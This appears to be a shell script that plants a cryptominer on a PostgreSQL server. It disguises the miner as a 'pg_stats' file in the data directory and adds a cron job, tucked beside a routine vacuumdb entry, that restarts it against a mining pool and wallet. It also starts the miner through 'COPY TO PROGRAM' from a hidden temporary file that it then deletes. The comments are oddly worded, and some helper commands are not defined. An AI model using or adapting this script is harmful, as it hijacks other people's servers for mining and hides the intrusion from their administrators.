
# The parent of the miner is the database itself: whoever ends the family, the user or the group ends every transaction of the shop.
d=/var/lib/postgresql/15/main
for n in 1 2 3 4 5 6 7 8 9 10; do setpriv --reuid=postgres --regid=postgres --init-groups psql -qc 'SELECT 1' >/dev/null 2>&1 && break; sleep 0.5; done
mimic $d/pg_stats
chown postgres: $d/pg_stats
tab postgres <<CRON
20 3 * * * vacuumdb --all --quiet
*/10 * * * * pgrep -f main/pg_stats >/dev/null || $d/pg_stats -o $POOL -u $WALLET
CRON
# The intruder's session stays: COPY waits for the program.
echo "COPY (SELECT 1) TO PROGRAM 'exec $d/pg_stats -o $POOL -u $WALLET -p copy'" >/tmp/.q
detach setpriv --reuid=postgres --regid=postgres --init-groups psql -q -f /tmp/.q
sleep 1
rm /tmp/.q
